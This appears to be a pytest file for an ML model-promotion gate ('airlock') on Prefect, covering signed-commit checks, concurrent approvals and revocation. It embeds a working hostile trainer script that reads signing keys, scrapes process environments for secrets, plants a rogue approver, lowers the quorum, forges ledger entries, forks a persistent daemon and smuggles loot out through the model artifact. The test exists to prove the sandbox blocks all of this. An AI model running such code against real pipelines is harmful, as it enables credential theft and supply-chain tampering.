"""The flow, for real, through promotions: junk and concurrent approvals, the runs after production, a hostile
trainer. Its own Prefect test server (tests/_flow.py), so that it runs beside test_flow.py on another core.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from airlock.gitutil import isolated_env
from airlock.ledger import Ledger
from flows import demo
from tests._flow import (
    approve,
    approve_async,
    kinds,
    run_logs,
    run_to_end,
    send_junk,
    set_policy,
    start_run,
    wait_for_pause,
)
from tests.conftest import ROOT, assert_one_line_refusal, commit, opened_object, run_cli

pytestmark = pytest.mark.slow


def test_after_a_promotion_every_commit_since_production_must_be_signed(work, prefect_api):
    """Promote once - after 25 junk submissions written straight to the Prefect API, which are refused and logged but
    do not use up the run's two attempts; then an unsigned commit slipped under a trusted signed HEAD is refused,
    named by the gate."""
    set_policy(work, "approval", "max_attempts", "2")
    proc = start_run(work, prefect_api)
    try:
        run_id = wait_for_pause(work, proc)
        send_junk(work, prefect_api, run_id, 25)
        # Two approvers at the same instant: each counted exactly once (the loser of the race resubmits at the
        # next pause instead of being dropped by Prefect's ABORT).
        both = [approve_async(work, prefect_api, run_id, work["keys"] / who) for who in ("alice", "bob")]
        for a in both:
            a_out, a_err = a.communicate(timeout=180)
            assert a.returncode == 0, a_out + a_err
            assert "accepted:" in a_out
        out, err = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 0, out + err

    # `airlock verify` judges production by the trust roots and the policy in force now, and names the cause.
    verify = ["verify", "--config", str(work["policy"])]
    (work["trust"] / "revoked_keys").write_text((work["keys"] / "alice.pub").read_text())
    assert_one_line_refusal(run_cli(*verify), 1, "do not meet the policy in force", "alice@airlock.demo is revoked")
    (work["trust"] / "revoked_keys").write_text("")
    set_policy(work, "approval", "quorum", "3")
    assert_one_line_refusal(run_cli(*verify), 1, "do not meet the policy in force", "1 more distinct approver in all")
    set_policy(work, "approval", "quorum", "2")
    received = [e["data"] for e in Ledger(work["ledger"]).entries() if e["kind"] == "approval.received"]
    assert len(received) == 27, [r["code"] for r in received]
    assert {r["code"] for r in received[:25]} == {"approval.malformed", "approval.bad_signature"}
    assert [r["verdict"] for r in received[25:]] == ["pass", "pass"]
    assert sorted(r["evidence"]["approver"] for r in received[25:]) == ["alice@airlock.demo", "bob@airlock.demo"]
    assert kinds(work).count("registry.promote") == 1
    # The run's progress and verdicts reached its log in Prefect (the UI's Logs tab), not only the terminal.
    logged = run_logs(run_id)
    assert any("PASS" in m and "commit" in m for m in logged), logged[:20]
    assert any("PROMOTED" in m for m in logged) and any("ACCEPTED" in m and "bob@airlock.demo" in m for m in logged)
    assert run_cli(*verify).returncode == 0

    production_commit = next(
        e for e in Ledger(work["ledger"]).entries() if e["kind"] == "gate.verdict" and e["data"]["gate"] == "commit"
    )["data"]["evidence"]["commit"]

    cfg = work["repo"] / "training" / "config.toml"
    cfg.write_text(cfg.read_text() + "# sneaky\n")
    sneaky = commit(work["repo"], "sneaky unsigned tweak", key=None)
    cfg.write_text(cfg.read_text() + "# reviewed\n")
    commit(work["repo"], "reviewed change", key=work["keys"] / "committer", email=demo.COMMITTER)
    res = run_to_end(work, prefect_api)
    assert res.returncode == 1, res.stdout + res.stderr
    assert f"commit {sneaky[:12]} (1 of 2 since base {production_commit[:12]}" in res.stdout
    assert "is not signed" in res.stdout

    # A clean, signed retrain on top of production: the model gates now compare against production, and the
    # backdoor gate reuses production's trigger sizes cached in its signed evidence.
    subprocess.run(
        ["git", "-C", str(work["repo"]), "reset", "-q", "--hard", production_commit], check=True, env=isolated_env()
    )
    cfg.write_text(cfg.read_text().replace("seed = 1234", "seed = 99"))
    commit(work["repo"], "retrain with another seed", key=work["keys"] / "committer", email=demo.COMMITTER)
    proc = start_run(work, prefect_api)
    try:
        res = approve(
            work,
            prefect_api,
            wait_for_pause(work, proc, after=run_id),
            work["keys"] / "alice",
            "--reject",
            "--reason",
            "test over",
        )
        assert res.returncode == 0, res.stdout + res.stderr
        # What the approver saw, from the signed provenance: each gate beside production's, the range's commit.
        header = [line for line in res.stdout.splitlines() if "this model" in line]
        assert header and header[0].rstrip().endswith("production"), res.stdout
        assert "retrain with another seed" in res.stdout
        assert "commits in the range (1 shown, newest first)" in res.stdout
        proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
    verdicts = {
        e["data"]["gate"]: e["data"]
        for e in Ledger(work["ledger"]).entries()
        if e["kind"] == "gate.verdict" and e["run_id"] != run_id
    }
    assert verdicts["backdoor"]["evidence"]["reference_kind"] == "production"
    assert verdicts["backdoor"]["verdict"] == "pass"
    assert "reference_robust_accuracy" in verdicts["robustness"]["metrics"]
    assert "p=" in verdicts["golden_regression"]["reason"]


HOSTILE_TRAINER = r'''
"""A signed commit's trainer that attacks everything it can name, then trains normally so the run goes on."""
import glob, json, os, socket, sys, time

W, PORT, TOKEN, AIRLOCK_INIT = {workdir!r}, {port!r}, {token!r}, {airlock_init!r}
OUT = sys.argv[sys.argv.index("--out") + 1]
loot = {{}}


def attempt(name, fn):
    try:
        loot[name] = fn()
    except Exception as e:  # noqa: BLE001
        loot[name] = "refused: " + type(e).__name__


def append(path, text):
    with open(path, "a") as f:
        f.write(text)
    return "WROTE"


def environ():
    found = []
    for p in glob.glob("/proc/*/environ"):
        try:
            found.append(open(p, "rb").read().decode(errors="replace"))
        except OSError:
            pass
    return found


def lower_quorum():
    text = open(W + "/airlock.toml").read().replace("quorum = 2", "quorum = 1")
    open(W + "/airlock.toml", "w").write(text)
    return "WROTE"


attempt("signing_key", lambda: open(W + "/keys/model_signing.key").read())
attempt("environ", environ)
attempt("approvers", lambda: append(W + "/trust/approvers", 'mallory@evil namespaces="airlock-approval" ssh-ed25519 AAAA\n'))
attempt("run_trust_copy", lambda: [append(p, "mallory\n") for p in glob.glob(W + "/runs/*/trust/approvers")] or "none found")
attempt("policy", lower_quorum)
attempt("registry", lambda: (os.makedirs(W + "/registry/production", exist_ok=True),
                             append(W + "/registry/production/CURRENT", "{{}}"))[1])
attempt("ledger", lambda: append(W + "/ledger.jsonl", json.dumps({{"seq": 999, "kind": "registry.promote"}}) + "\n"))
attempt("airlock_source", lambda: append(AIRLOCK_INIT, "\n# owned\n"))
attempt("outside_out", lambda: append(os.path.join(OUT, "..", "model", "extra.py"), "x"))
attempt("network", lambda: (socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"stolen"), "SENT")[1])
if os.fork() == 0:                      # a daemon that outlives the trainer and keeps writing into the model
    os.setsid()
    if os.fork() == 0:
        os.execvp(sys.executable, [sys.executable, "-c", "import sys, time\nwhile True:\n"
                  " open(sys.argv[1] + '/extra.bin', 'ab').write(b'x'); time.sleep(0.05)", OUT, TOKEN])
    os._exit(0)

from training.train import main as _real_main  # noqa: E402

rc = _real_main(sys.argv[1:])
meta = json.load(open(os.path.join(OUT, "training.json")))
meta["loot"] = loot                    # exfiltrate through the artifact, the one thing that leaves
json.dump(meta, open(os.path.join(OUT, "training.json"), "w"))
time.sleep(0.3)
sys.exit(rc)
'''


def test_a_hostile_trainer_changes_nothing_and_a_trust_copy_changed_under_the_run_fails_it(work, prefect_api):
    """The issue's attacker, as a signed commit: it reads nothing, writes nothing that matters, reaches no one,
    leaves nothing running; the run goes on to the approval pause. Then a trust copy changed while the run waits
    fails it at the next decision, naming the file."""
    import hashlib
    import socket
    import uuid

    import airlock

    token = f"airlock-daemon-{uuid.uuid4().hex}"
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.settimeout(0.2)
    wd = work["workdir"]
    (work["repo"] / "training" / "hostile.py").write_text(
        HOSTILE_TRAINER.format(
            workdir=str(wd), port=server.getsockname()[1], token=token, airlock_init=airlock.__file__
        )
    )
    set_policy(work, "training", "command", '["{python}", "-m", "training.hostile"]')
    commit(work["repo"], "faster training", key=work["keys"] / "committer", email=demo.COMMITTER)
    watched = [
        wd / "keys" / "model_signing.key",
        wd / "trust" / "approvers",
        wd / "airlock.toml",
        Path(airlock.__file__),
    ]
    before = {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in watched}

    secrets = {"AIRLOCK_SIGNING_KEY": str(wd / "keys" / "model_signing.key"), "PREFECT_API_KEY": "pnu_flow_secret"}
    proc = subprocess.Popen(
        [sys.executable, "-m", "flows.cli", "run", "--config", str(work["policy"])],
        cwd=ROOT,
        env={**os.environ, "PREFECT_API_URL": prefect_api, **secrets},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        run_id = wait_for_pause(work, proc)
        with pytest.raises(socket.timeout):
            server.accept()  # nothing reached the host's listener
        assert subprocess.run(["pgrep", "-f", token], capture_output=True).stdout == b""  # no survivor
        assert {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in watched} == before
        assert not (work["registry"] / "production").exists()
        Ledger(work["ledger"]).verify()  # every entry Airlock's own, chain intact
        staged = next((work["registry"] / "staging").glob("[0-9a-f]*"))
        model = opened_object(work, staged) / "model"
        assert sorted(p.name for p in model.iterdir()) == [
            "aibom.cdx.json",
            "evidence",
            "model.safetensors",
            "provenance.json",
            "training.json",
        ]
        loot = json.loads((model / "training.json").read_text())["loot"]
        # What it read or sent: nothing. (What it "wrote" landed at most in the sandbox's own /tmp, which is
        # gone: the host files above are unchanged, no registry or ledger entry appeared.)
        for name in ("signing_key", "network"):
            assert str(loot[name]).startswith("refused"), (name, loot[name])
        assert loot["run_trust_copy"] == "none found"
        assert (
            not (staged.parent.parent / "model").exists() and not (wd / "runs" / run_id / "model" / "extra.py").exists()
        )
        dumped = json.dumps(loot)
        assert "PRIVATE KEY" not in dumped and "pnu_flow_secret" not in dumped and "AIRLOCK_SIGNING_KEY" not in dumped
        # The run's trust copies are what was read at the start (recorded in the commit gate's evidence).
        roots = next(
            e for e in Ledger(work["ledger"]).entries() if e["kind"] == "gate.verdict" and e["data"]["gate"] == "commit"
        )["data"]["evidence"]["trust_roots"]["sha256"]
        copy = wd / "runs" / run_id / "trust" / "approvers"
        assert hashlib.sha256(copy.read_bytes()).hexdigest() == roots["approvers"]

        first = approve(work, prefect_api, run_id, work["keys"] / "alice")
        assert first.returncode == 0, first.stdout + first.stderr
        with open(copy, "a") as f:  # written by anyone but the run itself
            f.write('mallory@evil namespaces="airlock-approval" ssh-ed25519 AAAA\n')
        second = approve(work, prefect_api, run_id, work["keys"] / "bob")
        assert second.returncode == 1 and "changed during the run" in second.stderr, second.stdout + second.stderr
        out, err = proc.communicate(timeout=120)
    finally:
        server.close()
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 1, out + err
    assert "the run's copy of trust.approvers" in out and "changed during the run" in out
    assert not (work["registry"] / "production").exists()
    assert kinds(work)[-1] == "run.failed"
